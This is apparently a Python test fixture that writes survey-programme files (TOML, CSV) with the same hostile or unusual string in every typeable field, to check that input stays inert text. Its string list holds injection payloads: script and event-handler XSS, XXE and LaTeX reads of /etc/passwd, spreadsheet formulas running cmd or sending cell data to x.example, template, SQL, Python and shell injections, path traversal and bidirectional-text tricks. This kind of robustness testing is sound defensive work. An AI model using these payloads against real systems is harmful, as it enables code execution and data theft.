# ruff: noqa: E501, RUF001
"""What nobody should type, and a programme that holds it wherever a person can type."""

import csv
import io
import json
from pathlib import Path

# Each sets window.hit, opens a dialog or asks for something, were it taken for more than text.
STRINGS = {
    "script": "<script>window.hit=1;alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "script unclosed": "<script>window.hit=1//",
    "script after the title": "</title><script>window.hit=1</script>",
    "script after a style": "</style><script>window.hit=1</script>",
    "script after a text area": "</textarea></noscript><script>window.hit=1</script>",
    "end of the page": "</p></td></tr></table></main></body></html><script>window.hit=1</script>",
    "image": "<img src=x onerror=window.hit=1>",
    "image from elsewhere": '<img src="https://x.example/p.png">',
    "attribute, double quotes": '" autofocus onfocus="window.hit=1" x="',
    "attribute, single quotes": "' onmouseover='window.hit=1' x='",
    "attribute, backquotes": "` onload=`window.hit=1`",
    "event handlers": '<details open ontoggle="window.hit=1"><body onload=window.hit=1>',
    "frame": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>1</script>"></object><embed src="x.swf">',
    "form": '<form action="https://x.example"><button formaction="javascript:window.hit=1">OK</button></form>',
    "base": '<base href="https://x.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://x.example/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "link": '<link rel="stylesheet" href="https://x.example/x.css">',
    "style": '<style>@import "https://x.example/x.css"; *{display:none}</style>',
    "style attribute": '<p style="background:url(https://x.example/x)">x</p>',
    "style alone": "} body { background: url('https://x.example/x') } /*",
    "comment": "<!-- --!> <script>window.hit=1</script> -->",
    "processing instruction": "<?xml-stylesheet href='https://x.example/x.xsl'?><?php echo 1; ?>",
    "CDATA": "]]><![CDATA[<script>window.hit=1</script>]]>",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &#x202e;",
    "SVG": '"><svg onload=window.hit=1><script>window.hit=1</script></svg>',
    "SVG from elsewhere": '<svg><use href="https://x.example/x.svg#a"/><image href="https://x.example/p"/></svg>',
    "MathML": '<math><maction actiontype="statusline" xlink:href="javascript:window.hit=1">x</maction></math>',
    "template element": "<template><script>window.hit=1</script></template><slot onslotchange=window.hit=1>",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "XML bomb": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "XML entity": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "Markdown link": "[click](javascript:window.hit=1) [ref][1]\n\n[1]: javascript:window.hit=1",
    "Markdown image": "![x](https://x.example/p.png) <https://x.example>",
    "Markdown blocks": "# Heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n\n***",
    "Markdown code": "```html\n<script>window.hit=1</script>\n```\n`code` **bold** __x__ ~~y~~",
    "pandoc raw attribute": "`<script>window.hit=1</script>`{=html} `\\input{x}`{=latex}",
    "pandoc raw block": "```{=typst}\n#panic()\n```\n::: {.x onclick=y}\n:::",
    "pandoc metadata": "---\ntitle: x\ninclude-before: <script>window.hit=1</script>\n---",
    "Word's XML": '`<w:p><w:r><w:t>x</w:t></w:r></w:p>`{=openxml} </w:t></w:r></w:p> INCLUDETEXT "x"',
    "Typst": '#panic("x") #read("/etc/passwd") #import "x.typ" #set page(fill: red)',
    "Typst marks": "= x _y_ *z* $ a $ @ref <label> \\u{41} ~ -- #[x] ] ) }",
    "LaTeX": "\\input{/etc/passwd} \\write18{ls} \\end{document} $$x$$ \\(y\\) %",
    "mathtext": "$\\frac{1}{$ $\\alpha$ 5$ and $6 $",
    "javascript link": "javascript:window.hit=1",
    "javascript link, disguised": "java\tscript:window.hit=1 &#106;avascript:window.hit=1",
    "data link": "data:text/html,<script>window.hit=1</script>",
    "data link in base 64": "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    "file link": "file:///etc/passwd",
    "network share": "\\\\x.example\\share\\x.docx",
    "vbscript link": "vbscript:msgbox(1)",
    "spreadsheet link": '=HYPERLINK("https://x.example/?"&A1,"click")',
    "spreadsheet command": "+cmd|' /C calc'!A0",
    "spreadsheet formula, minus": "-2+3+cmd|' /C calc'!A0",
    "spreadsheet formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet import": '=IMPORTXML("https://x.example/","//a") =WEBSERVICE("https://x.example/")',
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\Windows\\System32\\x.dll:stream",
    "device": "CON",
    "device with an ending": "NUL.txt",
    "device of a printer": "LPT1 COM1 AUX PRN",
    "hidden file": ".gitignore",
    "name of a property": "__proto__ constructor toString",
    "templates": "{{ 7 * 7 }} {% raw %} {# x #} ${7*7} <%= 7*7 %> #{7*7} {0.__class__} %(x)s %s",
    "template that never ends": "{% for x in range(10**9) %}{{ config }}",
    "parameters": "x'\nimport os; os.system('x')\ny = \"\"\"",
    "parameters, quotes": '"); __import__("os").system("x") #',
    "SQL": "'; DROP TABLE answers; --",
    "shell": "$(touch x) `touch x` ; rm -rf x & | > x",
    "right to left": "safe \u202e txt.exe \u202c end",
    "isolates": "a \u2066b\u2067c\u2068d\u2069 e\u200f f",
    "zero width": "pass\u200bword pass\u200cword pass\u200dword \ufeffend",
    "combining": "Z\u0351\u036b\u0343a\u0321\u0348l\u0349\u034ag\u0332\u0347o",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 ☕",
    "Welsh": "Ŵyth ŵydd ŷd, tŷ, gŵyl, Llanfairpwllgwyngyll",
    "Arabic": "العمل المشترك يبني الثقة",
    "Hebrew and English": "שלום Riverside 123 עולם",
    "Chinese": "社区共同研究让我们学到很多",
    "ligatures and fractions": "ﬁnd ½ Ⅷ ① ｆｕｌｌ",
    "line separators": "one\u2028two\u2029three\x85four",
    "line ends": "one\r\ntwo\rthree\nfour",
    "control characters": "a\x01b\x08c\x0bd\x1be\x7ff\x9bg",
    "end of text": "before\x00after",
    "no character": "a\ufffeb\uffffc\ufffdd",
    "beyond the first plane": "𝒳 𠮷 \U000e0041 \U0010fffd",
    "very long word": "unbroken_" * 60,
}
ENDLESS = "ŵa" * 50_000
# What a programme's files cannot hold: a file with such a byte is no text.
REFUSED = "\0"
# What stands between two answers of one cell, which no label may hold.
SEPARATOR = " | "


def fields(said: str) -> dict[str, str]:
    """Return a programme's files with the same words wherever a person can type.

    What has to differ from what stands beside it, such as two labels, ends in a number.
    """
    rows = [[f"r{one}", "north", "start", "uni", f"{said} 1" if one % 2 else "Agree"] for one in range(12)]
    seen = [said, "diary", said, said]
    return {
        "programme.toml": _programme(said),
        "codebook.csv": _table(
            "item,text,kind,scale,section,framework,reversed,waves,before",
            ["heard", said, "scale", "agreement", said, "principle:voices", "", "", ""],
            ["comment", f"{said} 2", "text", "", said, "", "", "", ""],
            ["consent", "May we quote you?", "consent", "yes", "", "", "", "", ""],
        ),
        "scales.toml": _scales(said),
        "answers.csv": _table(
            "person,place,wave,sector,heard,comment,consent", *([*row, said, "Yes"] for row in rows)
        ),
        "cases.toml": _cases(said),
        "evidence.csv": _table(
            "evidence,case,sector,stage,direction,code,knowledge,condition,principle,paraphrase,source,section,coder",
            ["e1", "bridge", "uni", "problem", "enabler", "recruitment", "lived", "time", "voices", *seen],
            ["e2", "bridge", "", "", "barrier", "pace", "", "time", "", *seen],
        ),
        "themes.csv": _table("theme,title,definition,include,exclude,example", ["talk", *[said] * 5]),
        "excerpts.csv": _table(
            "excerpt,person,wave,item,theme,coder,looked_at",
            ["x1", "r1", "start", "comment", "talk", said, "A"],
        ),
        **{
            f"{log}.csv": _table("date,what,why,effect,who,signed_off_by", ["2026-01-31", *[said] * 4, ""])
            for log in ("assumptions", "decisions")
        },
    }


def write(data: Path, said: str, name: str = "hostile") -> Path:
    """Write a programme's folder that holds the same words wherever a person can type."""
    folder = data / name
    folder.mkdir(parents=True)
    for file, content in fields(said).items():
        (folder / file).write_bytes(content.encode())
    return folder


def _toml(said: str) -> str:
    return json.dumps(said, ensure_ascii=False).replace("\x7f", "\\u007f")


def _lines(said: str, *names: str) -> str:
    return "".join(f"{name} = {_toml(said)}\n" for name in names)


def _programme(said: str) -> str:
    keyed = {"places": ("north", "south"), "waves": ("start",), "sectors": ("uni",), "sources": ("diary",)}
    tables = "".join(
        f"[{table}]\n{''.join(_lines(f'{said} {number}', key) for number, key in enumerate(keys, start=1))}"
        for table, keys in keyed.items()
    )
    told = _lines(said, "title", "about", "source", "licence", "attribution", "respondents")
    coding = f"[coding]\n{_lines(said, 'note')}"
    return f'{told}kind = "synthetic"\ndate = 2026-03-31\n{tables}{coding}'


def _scales(said: str) -> str:
    labels = f'[{_toml(f"{said} 1")}, {_toml(f"{said} 2")}, "Agree"]'
    return (
        f'[agreement]\nlabels = {labels}\npolarity = "positive"\nfavourable = ["Agree"]\n'
        f"non_answers = [{_toml(f'{said} 3')}]\n{_lines(said, 'says', 'says_not')}"
        '[yes]\nlabels = ["Yes", "No"]\npolarity = "none"\n'
    )


def _cases(said: str) -> str:
    told = _lines(said, "title", "issue", "problem", "summary", "section")
    team = "".join(
        f'[[bridge.team]]\n{_lines(f"{said} {number}", "organisation")}sector = "uni"\n'
        f'layers = ["design"]\n{_lines(said, "note")}'
        for number in (1, 2)
    )
    ends = f"[{_toml(f'{said} 1')}, {_toml(f'{said} 2')}]"
    return (
        f'[bridge]\n{told}place = "north"\nsource = "diary"\ntakeaways = [{_toml(said)}]\n{team}'
        f'[[bridge.changes]]\n{_lines(said, "who", "when", "note")}sector = "uni"\nwhat = "left"\n'
        f'[[bridge.ties]]\nbetween = {ends}\nbefore = "no"\nafter = "yes"\n{_lines(said, "section")}'
        f"[[bridge.timeline]]\nplanned_start = 2025-05-01\nactual_start = 2025-06-01\nactual_end = 2025-07-01\n"
        f"planned_end = 2025-06-30\n{_lines(said, 'step', 'note')}"
        f"[[bridge.reach]]\n{_lines(said, 'what')}n = 110\n"
        f'[[bridge.causes]]\nkey = "cost"\nkind = "root"\n{_lines(said, "cause")}'
        f"[[bridge.iterations]]\n{_lines(said, 'planned', 'done', 'learned', 'struggled', 'next')}"
        f'[[bridge.outcomes]]\nkind = "product"\nstatus = "partly"\n{_lines(said, "outcome")}'
    )


def _table(header: str, *rows: list[str]) -> str:
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerows([header.split(","), *rows])
    return written.getvalue()
